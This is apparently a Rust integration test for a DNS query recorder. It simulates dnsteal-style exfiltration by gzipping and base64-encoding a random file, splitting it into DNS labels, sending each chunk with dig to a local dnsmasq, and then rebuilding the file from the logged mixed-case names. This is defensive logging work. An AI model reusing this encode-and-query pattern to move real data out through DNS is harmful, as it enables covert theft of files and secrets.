//! Names exactly as sent: a dnsteal-style exfiltration (a file, `gzip | base64`, cut into DNS
//! labels, one `dig` per query) recorded with `--no-raw`, then the file rebuilt from `dnsql`'s
//! output alone. base64 is case-sensitive, so this holds only if the case each name was sent
//! in is kept without the raw messages.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use dnsledger_tests::harness::*;
use dnsledger_tests::segments::*;

/// Label length of the exfiltrated data (dnsteal's default is 63; a name stays under 255).
const LABEL: usize = 60;
/// Data labels per query.
const LABELS: usize = 3;
/// The zone the names are sent under (dnsmasq answers everything under `a.test`).
const ZONE: &str = "x.a.test";

/// Runs `sh -c script` with `input` on stdin and returns its stdout.
fn shell(script: &str, input: &[u8]) -> Vec<u8> {
    let mut child = Command::new("sh")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("start sh -c {script}: {e}"));
    let mut stdin = child.stdin.take().expect("stdin");
    let data = input.to_vec();
    let writer = std::thread::spawn(move || stdin.write_all(&data));
    let out = child.wait_with_output().expect("sh output");
    writer
        .join()
        .expect("stdin writer")
        .expect("write to sh's stdin");
    assert!(
        out.status.success(),
        "sh -c {script}: {}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// A few KB of random bytes (from the kernel), as an exfiltrated file would be.
fn random_file(dir: &Path) -> Vec<u8> {
    let path = dir.join("secret.bin");
    let status = Command::new("dd")
        .args([
            "if=/dev/urandom",
            &format!("of={}", path.display()),
            "bs=3000",
            "count=1",
            "status=none",
        ])
        .status()
        .expect("run dd");
    assert!(status.success(), "dd: {status}");
    std::fs::read(&path).expect("read the random file")
}

#[test]
fn bpf_exfiltrated_file_rebuilt_from_names_without_raw() {
    let _g = bpf_lock();
    let dir = tempfile::tempdir().expect("tempdir");
    let secret = random_file(dir.path());
    let encoded = shell("gzip -c | base64 -w0", &secret);
    let encoded = String::from_utf8(encoded).expect("base64 is ASCII");
    assert!(
        encoded.bytes().any(|b| b.is_ascii_uppercase())
            && encoded.bytes().any(|b| b.is_ascii_lowercase()),
        "base64 of random data is mixed case"
    );
    let labels: Vec<&str> = encoded
        .as_bytes()
        .chunks(LABEL)
        .map(|c| std::str::from_utf8(c).expect("ASCII"))
        .collect();
    let names: Vec<String> = labels
        .chunks(LABELS)
        .map(|l| format!("{}.{ZONE}", l.join(".")))
        .collect();
    assert!(names.len() >= 20, "{} queries", names.len());

    let server = Dnsmasq::start_on(dir.path(), &["127.0.0.37"]);
    let data = dir.path().join("data");
    let rec = Recorder::start(&data, &["--no-raw"]);
    for name in &names {
        // `-q`: a base64 label may start with `+`, which dig would take for an option.
        run_client(Command::new("dig").args([
            "+tries=1",
            "+time=5",
            "+short",
            "@127.0.0.37",
            "-t",
            "A",
            "-q",
            name,
        ]));
    }
    let logs = rec.stop();
    // The server saw every name with its case (an independent witness of what was sent).
    let served: Vec<String> = server
        .queries()
        .into_iter()
        .filter(|(t, n)| t == "A" && n.ends_with(ZONE))
        .map(|(_, n)| n)
        .collect();
    assert_eq!(served, names, "dnsmasq's query log");
    drop(server);

    // What is stored: no raw bytes, the normal form in qname, the case in qname_case.
    let rows: Vec<Row> = all_rows(&data)
        .into_iter()
        .filter(|r| r.qname.as_deref().is_some_and(|q| q.ends_with(ZONE)))
        .collect();
    assert_eq!(rows.len(), names.len(), "{}", logs.join("\n"));
    for r in &rows {
        assert_eq!(r.query_raw, None, "--no-raw keeps no query bytes: {r:?}");
        assert_eq!(r.response_raw, None, "{r:?}");
        assert_eq!(r.comm.as_deref(), Some("dig"), "{r:?}");
        let case = r.qname_case.as_deref().expect("mixed case kept");
        assert_eq!(r.qname.as_deref(), Some(case.to_ascii_lowercase().as_str()));
    }

    // The responder's side: dnsql's SQL alone, ordered by time, gives back the file.
    let out = dnsql_json(
        &data,
        &[
            "sql",
            &format!(
                "SELECT qname_sent FROM dns WHERE qname LIKE '%.{ZONE}' AND qtype_name = 'A' \
                 ORDER BY ts"
            ),
        ],
    );
    let sent: Vec<String> = out
        .iter()
        .map(|v| {
            v["qname_sent"]
                .as_str()
                .unwrap_or_else(|| panic!("qname_sent: {v}"))
                .to_owned()
        })
        .collect();
    assert_eq!(sent, names, "dnsql's names as sent, in time order");
    let rebuilt: String = sent
        .iter()
        .map(|n| {
            n.strip_suffix(&format!(".{ZONE}"))
                .unwrap_or_else(|| panic!("{n} is not under {ZONE}"))
                .replace('.', "")
        })
        .collect();
    let file = shell("base64 -d | gzip -dc", rebuilt.as_bytes());
    assert_eq!(file.len(), secret.len());
    assert!(file == secret, "the rebuilt file differs from the original");
    // The lower-cased names cannot give it back (what was stored before qname_case).
    let lower = rebuilt.to_ascii_lowercase();
    let lost = Command::new("sh")
        .args(["-c", "base64 -d 2>/dev/null | gzip -dc >/dev/null 2>&1"])
        .stdin(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            if let Some(mut i) = c.stdin.take() {
                let _ = i.write_all(lower.as_bytes());
            }
            c.wait()
        })
        .expect("run sh");
    assert!(!lost.success(), "lower-cased base64 should not decode");
}
